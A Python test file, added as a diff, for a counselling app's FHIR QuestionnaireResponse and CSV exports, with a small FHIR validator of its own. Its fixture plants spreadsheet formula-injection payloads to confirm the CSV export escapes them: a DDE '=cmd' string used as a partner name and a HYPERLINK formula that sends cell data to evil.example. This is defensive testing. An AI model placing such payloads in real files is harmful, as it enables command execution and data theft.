@@ -1,0 +1,371 @@
+"""Counselor exports: one partner's answers as a FHIR R4 QuestionnaireResponse, an assignment as
+CSV. The FHIR resource is checked against the structure of the R4 resource by a small
+recursive validator written here (no network, no FHIR library).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import uuid
+
+import pytest
+from sqlalchemy import select
+
+from counselor.core.audit import AuditEvent
+from counselor.extensions import db
+from counselor.questionnaires.models import Response
+from tests.conftest import new_case
+from tests.reveal.helpers import INTAKE, INVENTORY, assign, canary, desire, intake_answers, load_own, open_link, sync
+
+# ---- a structural validator for R4 QuestionnaireResponse --------------------------------
+
+QR_ELEMENTS = {
+    "resourceType", "id", "meta", "implicitRules", "language", "text", "contained", "extension",
+    "modifierExtension", "identifier", "basedOn", "partOf", "questionnaire", "status", "subject",
+    "encounter", "authored", "author", "source", "item",
+}
+STATUSES = {"in-progress", "completed", "amended", "entered-in-error", "stopped"}
+ITEM_ELEMENTS = {"id", "extension", "modifierExtension", "linkId", "definition", "text", "answer", "item"}
+ANSWER_ELEMENTS = {"id", "extension", "modifierExtension", "item"}
+VALUE_KEYS = {
+    "valueBoolean", "valueDecimal", "valueInteger", "valueDate", "valueDateTime", "valueTime",
+    "valueString", "valueUri", "valueAttachment", "valueCoding", "valueQuantity", "valueReference",
+}
+FHIR_ID = re.compile(r"^[A-Za-z0-9\-.]{1,64}$")
+DATE = re.compile(r"^\d{4}(-(0[1-9]|1[0-2])(-(0[1-9]|[12]\d|3[01]))?)?$")
+DATETIME = re.compile(
+    r"^\d{4}(-(0[1-9]|1[0-2])(-(0[1-9]|[12]\d|3[01])(T([01]\d|2[0-3]):[0-5]\d:([0-5]\d|60)(\.\d+)?(Z|[+-]((0\d|1[0-3]):[0-5]\d|14:00)))?)?)?$"
+)
+TIME = re.compile(r"^([01]\d|2[0-3]):[0-5]\d:([0-5]\d|60)(\.\d+)?$")
+CANONICAL = re.compile(r"^\S+$")
+
+
+def _is_int(v) -> bool:
+    return isinstance(v, int) and not isinstance(v, bool)
+
+
+def _check_value(key: str, v, path: str, errors: list[str]) -> None:
+    ok = {
+        "valueBoolean": lambda: isinstance(v, bool),
+        "valueDecimal": lambda: isinstance(v, (int, float)) and not isinstance(v, bool),
+        "valueInteger": lambda: _is_int(v) and -(2**31) <= v < 2**31,
+        "valueDate": lambda: isinstance(v, str) and DATE.match(v),
+        "valueDateTime": lambda: isinstance(v, str) and DATETIME.match(v),
+        "valueTime": lambda: isinstance(v, str) and TIME.match(v),
+        "valueString": lambda: isinstance(v, str) and v != "",
+        "valueUri": lambda: isinstance(v, str) and CANONICAL.match(v),
+        "valueAttachment": lambda: isinstance(v, dict),
+        "valueCoding": lambda: isinstance(v, dict) and set(v) <= {"system", "version", "code", "display", "userSelected"}
+        and all(isinstance(v[k], str) and v[k] for k in v if k != "userSelected") and ("code" in v or "display" in v),
+        "valueQuantity": lambda: isinstance(v, dict) and "value" in v,
+        "valueReference": lambda: isinstance(v, dict) and ("reference" in v or "display" in v),
+    }[key]()
+    if not ok:
+        errors.append(f"{path}.{key}: {v!r} is not a valid {key[5:]}")
+
+
+def _no_empty(node, path: str, errors: list[str]) -> None:
+    """FHIR JSON: no null, no empty string, object or array anywhere."""
+    if node is None or node == "" or node == [] or node == {}:
+        errors.append(f"{path}: empty values are not allowed in FHIR JSON")
+    elif isinstance(node, dict):
+        for k, v in node.items():
+            _no_empty(v, f"{path}.{k}", errors)
+    elif isinstance(node, list):
+        for n, v in enumerate(node):
+            _no_empty(v, f"{path}[{n}]", errors)
+
+
+def _check_items(items, path: str, errors: list[str]) -> None:
+    if not isinstance(items, list):
+        errors.append(f"{path}: item must be a list")
+        return
+    for n, item in enumerate(items):
+        here = f"{path}[{n}]"
+        if not isinstance(item, dict):
+            errors.append(f"{here}: not an object")
+            continue
+        if unknown := set(item) - ITEM_ELEMENTS:
+            errors.append(f"{here}: unknown elements {sorted(unknown)}")
+        if not isinstance(item.get("linkId"), str) or not item.get("linkId"):
+            errors.append(f"{here}.linkId: required string")
+        if "text" in item and not isinstance(item["text"], str):
+            errors.append(f"{here}.text: must be a string")
+        has_answer, has_item = "answer" in item, "item" in item
+        if has_answer == has_item:
+            errors.append(f"{here}: needs either answer or item")
+        if has_item:
+            _check_items(item["item"], here + ".item", errors)
+        if has_answer:
+            if not isinstance(item["answer"], list):
+                errors.append(f"{here}.answer: must be a list")
+                continue
+            for m, answer in enumerate(item["answer"]):
+                ahere = f"{here}.answer[{m}]"
+                if not isinstance(answer, dict):
+                    errors.append(f"{ahere}: not an object")
+                    continue
+                values = [k for k in answer if k.startswith("value")]
+                if len(values) != 1 or values[0] not in VALUE_KEYS:
+                    errors.append(f"{ahere}: needs exactly one value[x] of {sorted(VALUE_KEYS)}, has {values}")
+                else:
+                    _check_value(values[0], answer[values[0]], ahere, errors)
+                if unknown := set(answer) - ANSWER_ELEMENTS - set(values):
+                    errors.append(f"{ahere}: unknown elements {sorted(unknown)}")
+                if "item" in answer:
+                    _check_items(answer["item"], ahere + ".item", errors)
+
+
+def validate_questionnaire_response(resource) -> list[str]:
+    """Every structural problem with an R4 QuestionnaireResponse; [] when it conforms."""
+    errors: list[str] = []
+    if not isinstance(resource, dict):
+        return ["$: not a JSON object"]
+    if resource.get("resourceType") != "QuestionnaireResponse":
+        errors.append("$.resourceType: must be QuestionnaireResponse")
+    if unknown := set(resource) - QR_ELEMENTS:
+        errors.append(f"$: unknown elements {sorted(unknown)}")
+    if "id" in resource and not (isinstance(resource["id"], str) and FHIR_ID.match(resource["id"])):
+        errors.append("$.id: not a FHIR id")
+    q = resource.get("questionnaire")
+    if q is not None and not (isinstance(q, str) and CANONICAL.match(q)):
+        errors.append("$.questionnaire: must be a canonical URL string")
+    if resource.get("status") not in STATUSES:
+        errors.append(f"$.status: {resource.get('status')!r} not in {sorted(STATUSES)}")
+    if "authored" in resource and not (isinstance(resource["authored"], str) and DATETIME.match(resource["authored"])):
+        errors.append("$.authored: not a FHIR dateTime")
+    if "subject" in resource and not isinstance(resource["subject"], dict):
+        errors.append("$.subject: must be a Reference")
+    if "item" in resource:
+        _check_items(resource["item"], "$.item", errors)
+    _no_empty(resource, "$", errors)
+    return errors
+
+
+def link_ids(items) -> list[str]:
+    out = []
+    for item in items:
+        out.append(item["linkId"])
+        out += link_ids(item.get("item", []))
+        for a in item.get("answer", []):
+            out += link_ids(a.get("item", []))
+    return out
+
+
+def test_the_validator_refuses_broken_resources():
+    good = {"resourceType": "QuestionnaireResponse", "questionnaire": "urn:q|1", "status": "completed",
+            "item": [{"linkId": "a", "text": "A", "answer": [{"valueInteger": 3}]},
+                     {"linkId": "g", "item": [{"linkId": "g.b", "answer": [{"valueCoding": {"code": "x"}}]}]}]}
+    assert validate_questionnaire_response(good) == []
+    bad = [
+        {**good, "resourceType": "Questionnaire"},
+        {**good, "status": "submitted"},
+        {**good, "questionnaire": {"reference": "x"}},
+        {**good, "item": [{"text": "no link id", "answer": [{"valueString": "x"}]}]},
+        {**good, "item": [{"linkId": "a", "answer": [{"valueString": "x", "valueInteger": 1}]}]},
+        {**good, "item": [{"linkId": "a", "answer": [{"valueFloat": 1.5}]}]},
+        {**good, "item": [{"linkId": "a", "answer": [{"valueInteger": True}]}]},
+        {**good, "item": [{"linkId": "a", "answer": [{"valueDate": "31/12/2024"}]}]},
+        {**good, "item": [{"linkId": "a"}]},
+        {**good, "item": [{"linkId": "a", "answer": [{"valueBoolean": True}], "item": [{"linkId": "b", "answer": [{"valueBoolean": True}]}]}]},
+        {**good, "item": []},
+        {**good, "answers": []},
+    ]
+    for resource in bad:
+        assert validate_questionnaire_response(resource), resource
+
+
+# ---- the exports ---------------------------------------------------------------------------
+
+ALL_TYPES = {
+    "slug": "all-types",
+    "title": "All types",
+    "purpose": "One item of every answerable type, for the export tests.",
+    "kind": "exercise",
+    "items": [
+        {"link_id": "intro", "type": "display", "text": "Answer what you like."},
+        {"link_id": "g", "type": "group", "text": "Everything", "items": [
+            {"link_id": "g.bool", "type": "boolean", "text": "A boolean"},
+            {"link_id": "g.choice", "type": "choice", "text": "One choice",
+             "options": [{"value": "x", "label": "Ex"}, {"value": "y", "label": "Why"}]},
+            {"link_id": "g.multi", "type": "choice", "text": "Many choices", "multiple": True,
+             "options": [{"value": "p", "label": "Pe"}, {"value": "q", "label": "Cue"}, {"value": "r", "label": "Ar"}]},
+            {"link_id": "g.open", "type": "open-choice", "text": "Open choice",
+             "options": [{"value": "u", "label": "You"}, {"value": "v", "label": "Vee"}]},
+            {"link_id": "g.open2", "type": "open-choice", "text": "Open choice, own words",
+             "options": [{"value": "u", "label": "You"}, {"value": "v", "label": "Vee"}]},
+            {"link_id": "g.string", "type": "string", "text": "A string", "share": "shared"},
+            {"link_id": "g.text", "type": "text", "text": "A text"},
+            {"link_id": "g.int", "type": "integer", "text": "An integer", "min": 0, "max": 100},
+            {"link_id": "g.dec", "type": "decimal", "text": "A decimal"},
+            {"link_id": "g.date", "type": "date", "text": "A date"},
+            {"link_id": "g.scale", "type": "scale", "text": "A scale", "min": 1, "max": 5,
+             "min_label": "low", "max_label": "high"},
+            {"link_id": "g.desire", "type": "desire", "text": "A desire",
+             "roles": [{"key": "give", "label": "Giving", "counterpart": "receive"},
+                       {"key": "receive", "label": "Receiving", "counterpart": "give"}]},
+            {"link_id": "g.hidden", "type": "text", "text": "Only after yes",
+             "enable_when": [{"question": "g.bool", "operator": "=", "answer": True}]},
+        ]},
+    ],
+}
+
+
+@pytest.fixture
+def exported(app, counselor_a):
+    """Two partners on the all-types questionnaire: Sam answered everything, Alex a draft."""
+    load_own(counselor_a, ALL_TYPES)
+    case = new_case(counselor_a, "Sam & Alex", ("Sam Rivera", "=cmd|' /C calc'!A0"))
+    assignment, tokens = assign(case, "all-types", owner_id=counselor_a.id)
+    sam_note, alex_text = canary("sam-note"), canary("alex-text")
+    sam = open_link(app, "Sam Rivera", tokens["Sam Rivera"])
+    alex_name = "=cmd|' /C calc'!A0"
+    alex = open_link(app, alex_name, tokens[alex_name])
+    sam_answers = {
+        "g.bool": False, "g.choice": "y", "g.multi": ["p", "r"], "g.open": "u", "g.open2": "in my own words",
+        "g.string": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "g.text": "+1 and -1 and @SUM(A1)",
+        "g.int": 42, "g.dec": "2.5", "g.date": "2024-02-29", "g.scale": 4,
+        "g.desire": desire({"give": "yes", "receive": "maybe"}, limit=True, note=sam_note),
+    }
+    sam.answer_and_submit(sam_answers)
+    alex.autosave({"g.text": alex_text, "g.bool": True, "g.hidden": "after yes"})
+    partners = {p.display_name: p for p in case.partners}
+    base = f"/cases/{case.id}/assignments/{assignment.id}"
+    return case, assignment, partners, base, sam_answers, sam_note, alex_text, alex_name
+
+
+def get_fhir(client, base, partner):
+    r = client.get(f"{base}/partners/{partner.id}/fhir.json")
+    assert r.status_code == 200, r.status_code
+    assert r.mimetype == "application/fhir+json"
+    assert r.headers["Content-Disposition"].startswith("attachment;")
+    return json.loads(r.get_data(as_text=True))
+
+
+def test_fhir_questionnaire_response_of_every_item_type(exported, client_a):
+    case, assignment, partners, base, answers, sam_note, alex_text, alex_name = exported
+    resource = get_fhir(client_a, base, partners["Sam Rivera"])
+    assert validate_questionnaire_response(resource) == []
+    assert resource["status"] == "completed"
+    assert resource["questionnaire"] == "urn:counselor:questionnaire:all-types|1"
+    assert "authored" in resource
+    (group,) = resource["item"]
+    assert group["linkId"] == "g" and group["text"] == "Everything"
+    by_id = {i["linkId"]: i for i in group["item"]}
+    assert by_id["g.bool"]["answer"] == [{"valueBoolean": False}]
+    assert by_id["g.choice"]["answer"] == [{"valueCoding": {"code": "y", "display": "Why"}}]
+    assert [a["valueCoding"]["code"] for a in by_id["g.multi"]["answer"]] == ["p", "r"]
+    assert by_id["g.open"]["answer"] == [{"valueCoding": {"code": "u", "display": "You"}}]
+    assert by_id["g.open2"]["answer"] == [{"valueString": "in my own words"}]
+    assert by_id["g.string"]["answer"] == [{"valueString": answers["g.string"]}]
+    assert by_id["g.int"]["answer"] == [{"valueInteger": 42}]
+    assert by_id["g.dec"]["answer"] == [{"valueDecimal": 2.5}]
+    assert by_id["g.date"]["answer"] == [{"valueDate": "2024-02-29"}]
+    assert by_id["g.scale"]["answer"] == [{"valueInteger": 4}]
+    sub = {i["linkId"]: i for i in by_id["g.desire"]["item"]}
+    assert sub["g.desire.role.give"]["answer"][0]["valueCoding"]["code"] == "yes"
+    assert sub["g.desire.role.receive"]["answer"][0]["valueCoding"]["code"] == "maybe"
+    assert sub["g.desire.hard_limit"]["answer"] == [{"valueBoolean": True}]
+    assert sub["g.desire.note"]["answer"] == [{"valueString": sam_note}]
+    assert "g.hidden" not in by_id  # not shown to Sam (g.bool is false), so not exported
+    body = json.dumps(resource)
+    assert alex_text not in body, "one partner's export holds nothing of the other"
+
+
+def test_fhir_of_a_draft_and_of_an_unopened_response(exported, client_a, app):
+    case, assignment, partners, base, answers, sam_note, alex_text, alex_name = exported
+    draft = get_fhir(client_a, base, partners[alex_name])
+    assert validate_questionnaire_response(draft) == []
+    assert draft["status"] == "in-progress"
+    ids = link_ids(draft["item"])
+    assert "g.text" in ids and "g.hidden" in ids
+    assert sam_note not in json.dumps(draft)
+
+    # a third partner who never opened the link: a valid resource without answers
+    from counselor.questionnaires.services import assign as assign_service
+    from counselor.questionnaires.models import Questionnaire
+
+    q = db.session.scalar(select(Questionnaire).where(Questionnaire.slug == "all-types"))
+    other, _ = assign_service(case, q.latest, [partners["Sam Rivera"].id], due_on=None, instructions=None, ttl_days=None)
+    db.session.commit()
+    empty = get_fhir(client_a, f"/cases/{case.id}/assignments/{other.id}", partners["Sam Rivera"])
+    assert validate_questionnaire_response(empty) == [], empty
+    assert empty["status"] == "in-progress"
+    assert "item" not in empty
+
+
+def test_fhir_of_the_inventory_and_intake(app, counselor_a, client_a):
+    sync()
+    case = new_case(counselor_a)
+    for slug, answers in ((INVENTORY, {"communication.instructions": desire({"give": "yes"}, note="n"),
+                                       "care.cuddling": desire({"together": "want_to_try"}),
+                                       "closing.for_partner": "hello"}),
+                          (INTAKE, intake_answers(**{"goals.motivation": "curiosity", "goals.own_wish": 2,
+                                                     "screening.pressure": "unsure", "screening.more": "later"}))):
+        assignment, tokens = assign(case, slug)
+        open_link(app, "Sam Rivera", tokens["Sam Rivera"]).answer_and_submit(answers)
+        sam = next(p for p in case.partners if p.display_name == "Sam Rivera")
+        resource = get_fhir(client_a, f"/cases/{case.id}/assignments/{assignment.id}", sam)
+        assert validate_questionnaire_response(resource) == [], (slug, validate_questionnaire_response(resource))
+        top = {i.split(".")[0] for i in answers}
+        assert {i["linkId"] for i in resource["item"]} == top
+
+
+def test_fhir_of_a_partner_outside_the_assignment_is_404(exported, client_a):
+    case, assignment, partners, base, *_ = exported
+    assert client_a.get(f"{base}/partners/{uuid.uuid4()}/fhir.json").status_code == 404
+
+
+def read_csv(client, base):
+    r = client.get(f"{base}/export.csv")
+    assert r.status_code == 200
+    assert r.mimetype == "text/csv"
+    assert r.headers["Content-Disposition"].startswith("attachment;")
+    body = r.get_data(as_text=True)
+    assert body.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(body[1:])))
+
+
+def test_csv_one_row_per_item_one_column_per_partner(exported, client_a, counselor_a):
+    case, assignment, partners, base, answers, sam_note, alex_text, alex_name = exported
+    rows = read_csv(client_a, base)
+    header, body = rows[0], rows[1:]
+    defn = assignment.version.definition
+    questions = [i["link_id"] for i in defn.questions()]
+    assert header[:5] == ["section", "link_id", "question", "type", "share"]
+    assert header[5:] == ["Sam Rivera", "'" + alex_name], "a name that looks like a formula stays text"
+    assert len(header) == 5 + len(case.partners)
+    assert [r[1] for r in body] == questions, "one row per answerable item, in order"
+    assert all(len(r) == len(header) for r in body)
+    cell = {r[1]: dict(zip(header[5:], r[5:])) for r in body}
+    sam, alex = "Sam Rivera", "'" + alex_name
+    assert cell["g.string"][sam] == "'" + answers["g.string"], "a typed '=' answer is exported as text"
+    assert cell["g.text"][sam] == "'+1 and -1 and @SUM(A1)"
+    assert cell["g.int"][sam] == "42" and cell["g.bool"][sam] == "No"
+    assert cell["g.multi"][sam] == "Pe; Ar"
+    assert sam_note in cell["g.desire"][sam] and "HARD LIMIT" in cell["g.desire"][sam]
+    assert cell["g.text"][alex] == alex_text
+    assert cell["g.hidden"][sam] == ""
+    for r in body:
+        for value in r:
+            assert not value[:1] in ("=", "+", "-", "@"), value
+
+
+def test_exports_write_audit_events(exported, client_a):
+    case, assignment, partners, base, *_ = exported
+    sam = partners["Sam Rivera"]
+    get_fhir(client_a, base, sam)
+    read_csv(client_a, base)
+    db.session.expire_all()
+    response = db.session.scalar(select(Response).where(Response.assignment_id == assignment.id, Response.partner_id == sam.id))
+    events = db.session.scalars(select(AuditEvent).where(AuditEvent.action.in_(["export.fhir", "export.csv"]))).all()
+    got = sorted((e.action, e.object_kind, e.object_id, e.actor_kind) for e in events)
+    assert got == [
+        ("export.csv", "assignment", str(assignment.id), "counselor"),
+        ("export.fhir", "response", str(response.id), "counselor"),
+    ]
+    for e in events:
+        assert e.actor_id and "Sam" not in e.object_id
